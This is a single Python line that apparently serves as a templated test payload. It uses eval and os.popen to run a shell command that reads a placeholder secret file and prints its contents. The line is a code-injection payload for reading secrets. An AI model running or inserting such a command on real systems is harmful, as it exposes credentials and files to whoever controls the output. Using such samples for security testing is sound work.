print(eval("__import__('os').popen('cat @SECRET@').read()"))
